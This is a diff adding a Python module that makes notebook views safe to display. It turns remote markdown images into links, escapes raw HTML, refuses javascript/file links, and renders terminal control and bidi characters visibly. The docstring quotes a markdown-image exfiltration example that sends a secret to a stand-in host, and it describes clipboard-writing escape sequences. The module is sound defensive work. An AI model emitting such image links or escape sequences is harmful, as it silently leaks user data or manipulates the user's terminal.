@@ -1,0 +1,112 @@
+"""What makes every view safe to show: no remote loads, no terminal control sequences, no markup from data.
+
+Views show text written by others (files, models, MCP servers, commands). Two things in it must not
+reach the notebook as they are:
+
+- Markdown images: `![](https://host/collect?d=secret)` would be fetched the moment the output is
+  shown, so a file or a model could send data out just by being displayed. `markdown_html` renders
+  every image whose source is not inline data as a link the person may click (the "load" action);
+  raw HTML is escaped (markdown-it's js-default preset), javascript:/vbscript:/file: links refused.
+- Control characters: ESC starts terminal sequences (OSC title, OSC 52 clipboard writes, screen
+  clears, CSI colours and cursor moves) that a front end or a terminal reading the text/plain may
+  act on; C1 controls do the same in one byte; bidi overrides make text read differently from what
+  it is. `visible` turns each into a visible stand-in (␛, ␇, \\x9b, ⟨U+202E⟩); newline and tab stay.
+
+`safe_bundle` applies `visible` to both text/plain and text/html of a display bundle: every place
+that builds a bundle calls it, so the rule does not depend on each view escaping each field.
+"""
+
+from __future__ import annotations
+
+import html
+import re
+from functools import cache
+from typing import Any
+
+# C0 except tab and newline, a CR not followed by LF (it rewinds the line), DEL, C1, bidi controls
+_CONTROLS = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]|\r(?!\n)")
+
+
+def _stand_in(match: re.Match[str]) -> str:
+    code = ord(match.group())
+    if code < 0x20:
+        return chr(0x2400 + code)  # the Unicode control pictures: ␀ … ␟, ␛ for ESC
+    if code == 0x7F:
+        return "\u2421"  # ␡
+    if code <= 0x9F:
+        return f"\\x{code:02x}"
+    return f"⟨U+{code:04X}⟩"
+
+
+def visible(text: str) -> str:
+    """`text` with every control character shown instead of acted on (tab and newline kept)."""
+    return _CONTROLS.sub(_stand_in, text)
+
+
+def safe_bundle(bundle: dict[str, Any]) -> dict[str, Any]:
+    """The bundle with text/plain and text/html made `visible`; other types (JSON data) untouched."""
+    out = dict(bundle)
+    for key in ("text/plain", "text/html"):
+        if isinstance(out.get(key), str):
+            out[key] = visible(out[key])
+    return out
+
+
+def _esc(value: str) -> str:
+    return html.escape(value, quote=True)
+
+
+def _inside_link(tokens: list, idx: int) -> bool:
+    depth = 0
+    for token in reversed(tokens[:idx]):
+        if token.type == "link_close":
+            depth += 1
+        elif token.type == "link_open":
+            if depth == 0:
+                return True
+            depth -= 1
+    return False
+
+
+def _image(self: Any, tokens: list, idx: int, options: Any, env: Any) -> str:
+    token = tokens[idx]
+    src = str(token.attrGet("src") or "")
+    alt = self.renderInlineAsText(token.children or [], options, env) or "image"
+    if src.startswith("data:image/"):  # inline data (validated by the preset: png/gif/jpeg/webp): no request
+        return f'<img src="{_esc(src)}" alt="{_esc(alt)}" style="max-width:100%">'
+    label = f"🖼 {_esc(alt)}"
+    if not src or _inside_link(tokens, idx):
+        return f'<span title="image not loaded">{label}</span>'
+    return (
+        f'<a href="{_esc(src)}" target="_blank" rel="noopener noreferrer nofollow"'
+        f' title="image not loaded; click to open {_esc(src)}">{label}</a>'
+    )
+
+
+def _link_open(self: Any, tokens: list, idx: int, options: Any, env: Any) -> str:
+    token = tokens[idx]
+    token.attrSet("target", "_blank")
+    token.attrSet("rel", "noopener noreferrer nofollow")  # no referrer: the page opened learns nothing
+    return self.renderToken(tokens, idx, options, env)
+
+
+@cache
+def _markdown() -> Any:
+    from markdown_it import MarkdownIt  # lazy: only showing Markdown needs it
+
+    # js-default: CommonMark + tables and strikethrough, raw HTML escaped, javascript:/vbscript:/file:
+    # and non-image data: URLs refused
+    md = MarkdownIt("js-default")
+    md.add_render_rule("image", _image)
+    md.add_render_rule("link_open", _link_open)
+    return md
+
+
+MAX_NESTING = 20  # markdown-it's own cap on block nesting is 100; quotes 20 deep are plenty to read
+
+
+def markdown_html(text: str) -> str:
+    """Markdown as HTML that loads nothing from anywhere: images become links, raw HTML is text."""
+    md = _markdown()
+    md.options["maxNesting"] = MAX_NESTING
+    return md.render(text)
